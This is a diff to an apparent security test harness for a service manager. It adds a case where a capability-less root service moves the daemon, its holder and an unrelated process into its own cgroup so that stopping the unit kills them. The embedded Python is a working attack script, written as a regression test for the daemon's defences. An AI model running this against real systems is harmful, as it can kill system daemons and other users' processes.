@@ -1032,7 +1032,74 @@ def state_forge(ctx):
     d.stop()
 
 
-ATTACKS = [state_forge, userns_owner, guard_transient, identity_forms, guard_forms, userns_foreign_map_nobody, cgroup_move_notify, cgroup_move_notify_protected, cgroup_move_notify_gated, userns_foreign_map, userns_guard_uid, userns_guard_uid_nobody, userns_guard_uid_dynamic, userns_no_setuid, notify_pid_reuse, mainpid_outside, mainpid_outside_crash, holder_fd_table, state_file_status, compat_setresuid, euid_checks]
+# ---------------------------------------------------------------------------------------
+CGROUP_PULL_PY = r"""
+# Pulls the daemon, the holder and an outside process (argv[1]) into this unit's own cgroup
+# (cgroup v2 asks for write access to the destination's and the common ancestor's
+# cgroup.procs, root-owned files; it does not compare the mover's and the target's
+# credentials), then exits: the unit's stop kills its cgroup.
+import os, sys
+daemon = os.getppid()
+with open('/proc/%d/stat' % daemon) as f:
+    holder = int(f.read().rsplit(')', 1)[1].split()[1])
+with open('/proc/self/cgroup') as f:
+    own = [l for l in f.read().split('\n') if l.startswith('0::')][0][3:]
+root = None
+for l in open('/proc/self/mountinfo'):
+    p = l.split()
+    if p[p.index('-') + 1] == 'cgroup2':
+        root = p[4]
+for t in (int(sys.argv[1]), holder, daemon):
+    try:
+        with open(root + own + '/cgroup.procs', 'w') as f:
+            f.write('%d\n' % t)
+        print('puller: moved %d' % t, flush=True)
+    except OSError as e:
+        print('puller: move of %d failed: %s' % (t, e), flush=True)
+"""
+
+
+def cgroup_pull(ctx, gated=False):
+    """A root service without capabilities writes other processes' pids into its own cgroup's
+    cgroup.procs: the holder, the daemon, and a process outside any unit; then its main
+    process exits, and the unit's stop kills what is in the cgroup."""
+    path = script(ctx, 'pull.py', CGROUP_PULL_PY)
+    outside = st.subprocess.Popen(['sleep', '1000'])
+    units = {'puller.service': unit('CapabilityBoundingSet=\nTimeoutStopSec=1\n' + (GATED if gated else '') +
+                                    'ExecStart=/usr/bin/python3 %s %d' % (path, outside.pid)),
+             'other.service': unit('ExecStart=/bin/sleep 1000')}
+    d = ctx.daemon(units, ['other.service'])
+    d.wait_state('other.service', 'active', 'running')
+    daemon = d.daemon_pid()
+    holder = d.proc.pid
+    st.ctl(ctx, d, 'start', 'puller.service')
+    end = time.monotonic() + 6
+    while time.monotonic() < end and proc_state(holder) not in ('gone', 'Z'):
+        time.sleep(0.05)
+    res = 'outside %s, daemon %s, holder %s' % ('killed' if outside.poll() is not None else 'alive',
+                                                proc_state(daemon), proc_state(holder))
+    log = d.unit_log('puller.service')
+    try:
+        outside.kill()
+    except OSError:
+        pass
+    outside.wait()
+    if os.environ.get('ATTACK_VERBOSE'):
+        print(res, log, d.daemon_log()[-2000:])
+    verdict('cgroups: a capless root service%s pulls the holder, the daemon and an outside process into its cgroup' %
+            (' (gated)' if gated else ''), 'puller: moved' not in log,
+            '%s; %s' % (res, ' | '.join(l.split(': ', 1)[-1] for l in log.split('\n') if 'puller' in l)))
+    try:
+        d.stop()
+    except Exception:
+        pass
+
+
+def cgroup_pull_gated(ctx):
+    cgroup_pull(ctx, True)
+
+
+ATTACKS = [cgroup_pull, cgroup_pull_gated, state_forge, userns_owner, guard_transient, identity_forms, guard_forms, userns_foreign_map_nobody, cgroup_move_notify, cgroup_move_notify_protected, cgroup_move_notify_gated, userns_foreign_map, userns_guard_uid, userns_guard_uid_nobody, userns_guard_uid_dynamic, userns_no_setuid, notify_pid_reuse, mainpid_outside, mainpid_outside_crash, holder_fd_table, state_file_status, compat_setresuid, euid_checks]
 
 
 def main():
